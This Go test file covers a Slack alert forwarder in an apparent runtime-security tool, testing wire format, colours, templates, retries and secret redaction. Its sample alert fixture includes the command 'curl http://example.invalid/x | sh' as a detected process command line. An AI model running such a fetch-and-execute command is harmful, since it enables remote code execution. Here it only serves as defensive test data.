package slack_test

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"text/template"
	"time"

	"github.com/saker-sec/saker/forwarders/internal/outhttp"
	"github.com/saker-sec/saker/forwarders/internal/settings"
	"github.com/saker-sec/saker/forwarders/slack"
	"github.com/saker-sec/saker/hub/alert"
)

func sample() alert.Alert {
	return alert.Alert{
		UUID: "u-1", Output: "Shell spawned in container (user=root)",
		Priority: alert.PriorityCritical, Rule: "Terminal shell in container",
		Time: time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC),
		OutputFields: map[string]any{
			"proc.name":    "bash",
			"proc.cmdline": "bash -c 'curl http://example.invalid/x | sh' --long-argument",
			"proc.pid":     json.Number("4242"),
			"user.name":    "root",
		},
		Source: "syscalls", Tags: []string{"shell", "container", "T1059"}, Hostname: "node-1",
	}
}

func config() slack.Config {
	return slack.Config{WebhookURL: "http://unused", Username: slack.DefaultUsername, Icon: slack.DefaultIcon,
		Footer: slack.DefaultFooter, OutputFormat: slack.FormatAll, Common: settings.Common{CheckCert: true}}
}

// The exact JSON slack-go sends for falcosidekick's message (all fields);
// slack-go adds "blocks":null to attachments, which Slack ignores.
const wantAll = `{"username":"Falcosidekick","icon_url":"https://raw.githubusercontent.com/falcosecurity/falcosidekick/master/imgs/falcosidekick_color.png","channel":"#alerts","attachments":[{"color":"#ff5400","fallback":"Shell spawned in container (user=root)","text":"Shell spawned in container (user=root)","fields":[{"title":"rule","value":"Terminal shell in container","short":true},{"title":"priority","value":"Critical","short":true},{"title":"source","value":"syscalls","short":true},{"title":"hostname","value":"node-1","short":true},{"title":"tags","value":"T1059, container, shell","short":true},{"title":"proc.cmdline","value":"bash -c 'curl http://example.invalid/x | sh' --long-argument","short":false},{"title":"proc.name","value":"bash","short":true},{"title":"proc.pid","value":"4242","short":true},{"title":"user.name","value":"root","short":true},{"title":"time","value":"2026-11-23 09:00:00 +0000 UTC","short":false}],"blocks":null,"footer":"https://github.com/falcosecurity/falcosidekick"}],"replace_original":false,"delete_original":false}`

// slackPeer mimics an incoming webhook: JSON in, "ok" out; "invalid_payload"
// (400) when the body is not a message.
type slackPeer struct {
	bodies  []string
	headers []http.Header
	status  int
	header  http.Header
}

func (p *slackPeer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	p.bodies = append(p.bodies, string(b))
	p.headers = append(p.headers, r.Header.Clone())
	for k, v := range p.header {
		w.Header()[k] = v
	}
	var msg map[string]any
	if r.Method != http.MethodPost || r.Header.Get("Content-Type") != "application/json" || json.Unmarshal(b, &msg) != nil {
		w.WriteHeader(http.StatusBadRequest)
		io.WriteString(w, "invalid_payload")
		return
	}
	if p.status != 0 {
		w.WriteHeader(p.status)
		io.WriteString(w, "no_service")
		return
	}
	w.Header().Set("Content-Type", "text/html")
	io.WriteString(w, "ok")
}

func TestMessageWireFormat(t *testing.T) {
	p := &slackPeer{}
	srv := httptest.NewServer(p)
	defer srv.Close()
	cfg := config()
	cfg.WebhookURL = srv.URL + "/services/T000/B000/XXXX"
	cfg.Channel = "#alerts"
	cfg.CustomHeaders = map[string]string{"X-Proxy-Token": "t0k"}
	f, err := slack.New(cfg, outhttp.Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if retry, err := f.Forward(context.Background(), []alert.Alert{sample()}); err != nil {
		t.Fatalf("Forward = %v, %v", retry, err)
	}
	if len(p.bodies) != 1 || p.bodies[0] != wantAll {
		t.Fatalf("body\n got %s\nwant %s", p.bodies, wantAll)
	}
	if got := p.headers[0].Get("X-Proxy-Token"); got != "t0k" {
		t.Fatalf("custom header = %q", got)
	}
}

func TestColors(t *testing.T) {
	want := map[alert.Priority]string{
		alert.PriorityEmergency: "#e20b0b", alert.PriorityAlert: "#ff5400", alert.PriorityCritical: "#ff5400",
		alert.PriorityError: "#e20b0b", alert.PriorityWarning: "#ffc700", alert.PriorityNotice: "#5bffb5",
		alert.PriorityInformational: "#68c2ff", alert.PriorityDebug: "#ccfff2",
	}
	for p, c := range want {
		if got := slack.Color(p); got != c {
			t.Errorf("Color(%v) = %q, want %q", p, got, c)
		}
	}
}

func TestOutputFormats(t *testing.T) {
	tests := []struct {
		name       string
		format     string
		msgFormat  string
		wantText   string // top-level text
		wantAttTxt string
		wantFields int
		wantFooter string
	}{
		{name: "all", format: "all", wantAttTxt: sample().Output, wantFields: 10, wantFooter: slack.DefaultFooter},
		{name: "text", format: "text", wantAttTxt: sample().Output},
		{name: "fields with message format", format: "fields", msgFormat: `Alert: rule *{{ .Rule }}* by *{{ index .OutputFields "user.name" }}*`,
			wantText: "Alert: rule *Terminal shell in container* by *root*", wantFields: 10, wantFooter: slack.DefaultFooter},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := config()
			cfg.OutputFormat = tt.format
			if tt.msgFormat != "" {
				cfg.MessageFormat = template.Must(template.New("m").Parse(tt.msgFormat))
			}
			a := sample()
			m, err := slack.Message(&cfg, &a)
			if err != nil {
				t.Fatal(err)
			}
			att := m.Attachments[0]
			if m.Text != tt.wantText || att.Text != tt.wantAttTxt || len(att.Fields) != tt.wantFields || att.Footer != tt.wantFooter || att.Fallback != a.Output {
				t.Fatalf("message text=%q att.text=%q fields=%d footer=%q fallback=%q", m.Text, att.Text, len(att.Fields), att.Footer, att.Fallback)
			}
		})
	}
}

// A SLACK_MESSAGEFORMAT that fails on one alert (here: no tags to index)
// still posts that alert's message, without the text; the others keep it.
func TestMessageFormatFailurePostsWithoutText(t *testing.T) {
	p := &slackPeer{}
	srv := httptest.NewServer(p)
	defer srv.Close()
	cfg := config()
	cfg.WebhookURL = srv.URL
	cfg.MessageFormat = template.Must(template.New("m").Parse(`first tag {{ index .Tags 0 }}`))
	f, err := slack.New(cfg, outhttp.Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	untagged := sample()
	untagged.UUID, untagged.Tags = "u-2", nil
	if retry, err := f.Forward(context.Background(), []alert.Alert{sample(), untagged}); err != nil {
		t.Fatalf("Forward = %v, %v", retry, err)
	}
	if len(p.bodies) != 2 {
		t.Fatalf("posted %d messages, want 2", len(p.bodies))
	}
	var first, second struct {
		Text        string `json:"text"`
		Attachments []struct {
			Text string `json:"text"`
		} `json:"attachments"`
	}
	if json.Unmarshal([]byte(p.bodies[0]), &first) != nil || json.Unmarshal([]byte(p.bodies[1]), &second) != nil {
		t.Fatalf("bodies %s", p.bodies)
	}
	if first.Text != "first tag shell" || second.Text != "" || second.Attachments[0].Text != untagged.Output {
		t.Fatalf("texts %q / %q, attachment %q", first.Text, second.Text, second.Attachments[0].Text)
	}
}

func TestErrors(t *testing.T) {
	tests := []struct {
		name      string
		status    int
		header    http.Header
		wantRetry bool
		wantAfter time.Duration
	}{
		{name: "rate limited", status: 429, header: http.Header{"Retry-After": {"7"}}, wantRetry: true, wantAfter: 7 * time.Second},
		{name: "slack down", status: 503, wantRetry: true},
		{name: "webhook revoked", status: 404},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := &slackPeer{status: tt.status, header: tt.header}
			srv := httptest.NewServer(p)
			defer srv.Close()
			cfg := config()
			cfg.WebhookURL = srv.URL
			f, _ := slack.New(cfg, outhttp.Options{}, nil)
			retry, err := f.Forward(context.Background(), []alert.Alert{sample()})
			var se *outhttp.StatusError
			if retry != tt.wantRetry || !errors.As(err, &se) || se.Code != tt.status || se.RetryAfter != tt.wantAfter {
				t.Fatalf("Forward = %v, %v; want retry %v, status %d, retry-after %v", retry, err, tt.wantRetry, tt.status, tt.wantAfter)
			}
		})
	}
}

func TestUnreachableErrorHidesWebhookSecret(t *testing.T) {
	cfg := config()
	cfg.WebhookURL = "http://127.0.0.1:1/services/T000/B000/SECRETSECRET"
	f, _ := slack.New(cfg, outhttp.Options{Timeout: time.Second}, nil)
	retry, err := f.Forward(context.Background(), []alert.Alert{sample()})
	if !retry || err == nil {
		t.Fatalf("Forward = %v, %v; want retryable error", retry, err)
	}
	if strings.Contains(err.Error(), "SECRETSECRET") {
		t.Fatalf("error leaks the webhook secret: %v", err)
	}
}
